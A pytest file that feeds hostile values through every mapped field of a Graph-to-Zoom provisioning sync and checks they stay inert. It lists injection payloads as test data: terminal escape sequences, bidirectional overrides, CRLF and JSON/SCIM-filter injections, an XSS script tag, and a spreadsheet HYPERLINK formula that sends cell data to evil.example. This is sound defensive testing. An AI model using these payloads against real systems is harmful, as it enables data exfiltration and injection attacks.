"""Hostile source data (issue 13 item 10): escapes, formulas, bidirectional marks, NUL and
10 kB values in every mapped field of the default Zoom mapping.

Each hostile value goes into each mapped Graph attribute of its own user, and the whole
tenant is synced, changed, partly deleted (held by the threshold) and provisioned on demand
through the real command line. Two things must hold:

* **data, never control**: a user whose values the target can take ends with exactly those
  strings in the target (a JSON or SCIM-filter injection changes nothing else: no other
  attribute, no extra or missing account); a user whose value cannot be sent (a control
  character, a value over 1,024 characters) fails with a reason, and nothing of it reaches
  the target;
* **every output stays clean**: what the commands print (sync, logs, status, staged,
  provision, test-connection; text and JSON) holds no raw control character, the JSON
  lines parse, no CSV cell starts a formula, the HTML report holds no markup of the data.

The expectation is computed here from the values, not from bulkprov's own checks.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

from bulkprov.mapping.defaults import ENTERPRISE_DEPARTMENT
from bulkprov.scim.paths import get_value

from .cli_support import Cli, cli_fixture  # noqa: F401 - the `cli` fixture

HOSTILE = {
    "ansi": "\x1b[31mred\x1b[0m",
    "osc": "\x1b]0;PWNED\x07\x1b[2J",
    "csi8": "\x9b2J",  # the 8-bit CSI: a C1 control
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "at": "@SUM(1+1)",
    "plus": "+1+1",
    "minus": "-2+3",
    "rtl": "\u202etxt.exe",
    "marks": "\u200fname\u200e\u2066x\u2069",
    "nul": "nul\x00byte",
    "crlf": "line\r\nX-Injected: 1",
    "linesep": "a\u2028b",
    "long": "A" * 10_240,
    "filter": 'x"or"userName"pr"or"x',  # a SCIM filter injection, were it unescaped
    "json": '","active":false,"x":"',  # a JSON injection, were it concatenated
    "html": "<script>alert(1)</script>",
    "html-bel": "<script>alert(1)</script>\x07",  # refused: its reason quotes it in the report
    "backslash": "\\u001b\\x1b\\",  # escapes as text: must stay text
}
#: Graph attribute → the SCIM attribute the default Zoom mapping gives it
FIELDS = {
    "userPrincipalName": "userName",
    "mail": 'emails[type eq "work"].value',
    "givenName": "name.givenName",
    "surname": "name.familyName",
    "displayName": "displayName",
    "department": ENTERPRISE_DEPARTMENT,
}
EMAIL_FIELDS = {"userPrincipalName", "mail"}
#: OWASP: a CSV cell starting with one of these is a formula to a spreadsheet
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: what a terminal acts on: C0 (but none is expected anyway), DEL, C1, bidirectional controls
_RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
_RAW_IN_JSON = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def sendable(field: str, value: str) -> bool:
    """Whether a target can take ``value`` as the attribute: no control character (Graph
    data with one is a paste error, and a target answers 400), at most 1,024 characters,
    and an email for the email attributes (no space, one @)."""
    if re.search("[\x00-\x1f\x7f-\x9f\u2028\u2029]", value) or len(value) > 1024:
        return False
    return field not in EMAIL_FIELDS or (" " not in value and value.count("@") == 1)


def value_for(field: str, kind: str, i: int) -> str:
    hostile = HOSTILE[kind]
    return f"{hostile}{i}@corp.example" if field in EMAIL_FIELDS else hostile


def assert_clean_text(label: str, text: str) -> None:
    found = _RAW.search(text)
    assert found is None, (label, repr(text[max(found.start() - 80, 0) : found.end() + 80]))


def assert_clean_json(label: str, text: str, *, errors: bool = False) -> list[Any]:
    """The JSON lines of ``text``, each clean; ``errors``: the command may have ended with
    an error line instead (provision of a user whose data cannot be mapped)."""
    if errors and text.startswith("error: "):
        assert_clean_text(label, text)
        return []
    docs = []
    for line in text.splitlines():
        if not line.startswith("{"):
            continue  # a warning on standard error, a summary
        found = _RAW_IN_JSON.search(line)
        assert found is None, (label, repr(line[max(found.start() - 80, 0) : found.end() + 80]))
        docs.append(json.loads(line))
    assert docs, label
    return docs


def test_hostile_values_in_every_mapped_field_stay_data(cli: Cli, tmp_path):
    users: list[tuple[str, str, dict[str, Any]]] = []
    for i, (field, kind) in enumerate((f, k) for f in FIELDS for k in HOSTILE):
        attrs: dict[str, Any] = {
            "userPrincipalName": f"hostile{i}@corp.example",
            "mail": f"hostile{i}@corp.example",
            "accountEnabled": True,
        }
        attrs[field] = value_for(field, kind, i)
        users.append((field, kind, cli.tenant.add_user(attrs)))
    text = cli.config.read_text().replace("threshold = 500", "threshold = 0")
    # a third of the users fail on purpose: Entra's fixed minimum (5,000), not scaled down
    cli.config.write_text(text.replace("[deprovision]", "[quarantine]\nscale = 0\n\n[deprovision]"))

    outputs: dict[str, str] = {}
    first = cli("sync")
    outputs["sync"] = first.output
    assert first.exit_code == 10, first.output  # completed, the unsendable users failed

    # -- data, never control: what the target holds --------------------------------------
    store = {str(r["userName"]).lower(): r for r in cli.scim.dump()}
    sent = [(f, k, u) for f, k, u in users if sendable(f, str(u[f]))]
    refused = [(f, k, u) for f, k, u in users if not sendable(f, str(u[f]))]
    assert sent and refused
    for field, kind, user in sent:
        account = store.get(str(user["userPrincipalName"]).lower())
        assert account is not None, (field, kind)
        assert get_value(account, FIELDS[field]) == user[field], (field, kind)
        assert account["active"] is True, (field, kind)  # no injected "active": false
        for other, path in FIELDS.items():  # the others hold their own values
            if other != field and user.get(other) is not None:
                assert get_value(account, path) == user[other], (field, kind, other)
    for field, kind, user in refused:
        assert str(user["userPrincipalName"]).lower() not in store, (field, kind)
    expected_accounts = sum(1 for u in cli.tenant.iter_users() if u["accountEnabled"]) - len(
        refused
    )
    assert len(store) == expected_accounts  # no extra account, none missing
    assert cli.scim.duplicate_posts() == {}

    # a change and a deletion of hostile users: updates, and disables held by the threshold
    for _field, _kind, user in sent[::7]:
        cli.tenant.update_user(user["id"], jobTitle="changed", department=HOSTILE["formula"])
    for _field, _kind, user in sent[1::9]:
        cli.tenant.delete_user(user["id"], soft=True)
    second = cli("sync", "--json")
    assert second.exit_code == 9, second.output  # the disables are held
    outputs["json sync"] = second.output

    # -- every output stays clean ------------------------------------------------------------
    for args in (
        ("logs", "--limit", "0"),
        ("logs", "--limit", "0", "--status", "failure"),
        ("status",),
        ("staged",),
        ("test-connection",),
    ):
        outputs[" ".join(args)] = cli(*args).output
    for args in (
        ("logs", "--limit", "0", "--json"),
        ("status", "--json"),
        ("staged", "--json"),
        ("test-connection", "--json"),
    ):
        outputs["json " + " ".join(args)] = cli(*args).output
    # provision on demand of new hostile users: the lookup is a SCIM filter on the userName
    # (`userName eq "…"`, the value escaped), then the create
    before = len(cli.scim)
    late = []
    for i, kind in enumerate(HOSTILE, len(users)):
        upn = value_for("userPrincipalName", kind, i)
        user = cli.tenant.add_user(userPrincipalName=upn, mail=upn, accountEnabled=True)
        late.append(user)
        how = ("provision", str(user["id"])) + (("--json",) if i % 2 else ())
        result = cli(*how)
        outputs[("json " if i % 2 else "") + f"provision {kind}"] = result.output
        if sendable("userPrincipalName", upn):
            assert result.exit_code == 0, (kind, result.output)
            account = cli.scim.find(upn)
            assert account is not None and account["userName"] == upn, kind
        else:
            assert cli.scim.find(upn) is None, kind
    assert len(cli.scim) == before + sum(
        sendable("userPrincipalName", str(u["mail"])) for u in late
    )
    for label, text in outputs.items():
        if label.startswith("json"):
            assert_clean_json(label, text, errors=label.startswith("json provision"))
        else:
            assert_clean_text(label, text)
    logged = "".join(v for k, v in outputs.items() if k.startswith("logs"))
    assert "\\x1b]0;PWNED\\x07\\x1b[2J" in logged  # shown, escaped
    assert "\\u202etxt.exe" in logged
    staged_text = outputs["staged"]
    assert staged_text.count("held") >= 2, staged_text

    failures = assert_clean_json("json failures", outputs["json logs --limit 0 --json"])
    reasons = {d["graph_id"]: d["reason"] for d in failures if d["status"] == "failure"}
    for field, kind, user in refused:  # each refused user failed with a reason naming it
        assert FIELDS[field].split("[")[0] in reasons[user["id"]], (field, kind)

    csv_dir = tmp_path / "csv"
    assert cli("logs", "--limit", "0", "--csv", str(csv_dir)).exit_code == 0
    for path in csv_dir.iterdir():
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        assert len(rows) > 1, path
        bad = [c for row in rows for c in row if c.startswith(FORMULA_START)]
        assert bad == [], (path.name, bad[:3])
    report_path = cli("report", "1").output.strip()
    html = Path(report_path).read_text(encoding="utf-8")
    assert_clean_text("report", html)
    assert "<script" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
